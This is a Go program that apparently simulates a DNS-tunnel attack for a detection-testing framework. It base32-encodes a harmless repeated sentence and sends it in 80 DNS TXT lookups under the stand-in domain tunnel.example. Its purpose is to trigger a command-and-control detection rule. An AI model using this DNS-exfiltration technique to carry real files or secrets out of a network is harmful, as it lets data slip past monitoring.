// Command tunnel sends a text in the names that it asks for: 80 long ones below
// one domain, which does not exist.
//
// Rule: command-and-control/dns-tunnel.
package main

import (
	"context"
	"encoding/base32"
	"fmt"
	"net"
	"strings"

	"github.com/detonaut/detonaut/actors/stage"
)

const (
	pieces = 80
	size   = 30 // bytes in each, 48 characters
)

func main() { stage.Play(send) }

func send(ctx context.Context) error {
	encoding := base32.StdEncoding.WithPadding(base32.NoPadding)
	text := []byte(strings.Repeat("Nothing of interest is written here, and yet it goes out. ", pieces))
	for i := range pieces {
		piece := strings.ToLower(encoding.EncodeToString(text[i*size : (i+1)*size]))
		// Whether there is an answer does not matter: the name has arrived.
		_, _ = net.DefaultResolver.LookupTXT(ctx, fmt.Sprintf("%s.%02d.t.tunnel.example", piece, i))
	}
	fmt.Printf("sent %d bytes\n", pieces*size)
	return ctx.Err()
}
